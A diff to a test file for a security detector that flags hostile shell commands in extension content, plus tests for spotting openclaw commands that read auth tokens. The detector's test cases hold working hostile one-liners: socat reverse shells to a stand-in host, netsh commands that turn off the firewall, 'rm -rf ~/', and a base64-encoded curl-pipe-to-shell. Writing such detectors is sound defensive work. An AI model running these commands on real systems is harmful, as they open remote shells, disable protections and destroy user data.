@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { analyseExtension } from '../../../../main/probes/extensions/content/analyse';
 import { parseShell } from '../../../../main/probes/extensions/content/shell-parser';
+import { asksForKey } from '../../../../main/probes/extensions/content/shell-programs';
 
 const yaml = (text: string) => parse(text, { maxAliasCount: 0, logLevel: 'silent' });
 const look = (path: string, text: string) =>
@@ -39,6 +40,15 @@ describe('a shell text', () => {
     ['timeout 1 bash -c "</dev/tcp/localhost/80" && echo open', []],
     ['rm -rf ~/', ['destroys']],
     ['rm -rf ./build ~/.cache/thing', []],
+    ['socat tcp:x.example.net:9 exec:/bin/sh', ['opens-shell']],
+    ["socat tcp:x.example.net:9 EXEC:'bash -li',pty", ['opens-shell']],
+    [`socat exec:${'/'.repeat(2000)}exec:/bin/sh,pty tcp:x.example.net:9`, ['opens-shell']],
+    ['socat tcp:x.example.net:9 exec:cat', []],
+    ['socat exec:cat sh tcp:x.example.net:9', []],
+    ['netsh advfirewall firewall set allprofiles state off', ['unprotects']],
+    [`netsh firewall set opmode ${'a '.repeat(2000)} DISABLE`, ['unprotects']],
+    ['netsh firewall show firewall', []],
+    ['netsh set off firewall', []],
     ['echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc', []],
     [
       `echo ${base64('curl https://x.example.net/i | sh')} | base64 -d | sh`,
@@ -46,6 +56,16 @@ describe('a shell text', () => {
     ],
   ])('%s', (text, ids) => expect(look('x.sh', text)).toEqual(ids));
 });
+
+it.each([
+  ['config get gateway.auth.token', true],
+  ['--profile a config get config get models.b.apiKey', false],
+  ['--profile a config get config get models.b.auth', true],
+  ['config get gateway.port', false],
+  ['config set gateway.auth.token', false],
+])('openclaw %s asks for a key: %s', (line, asks) =>
+  expect(asksForKey({ name: 'openclaw', args: line.split(' ') })).toBe(asks),
+);
 
 describe('code', () => {
   it.each([
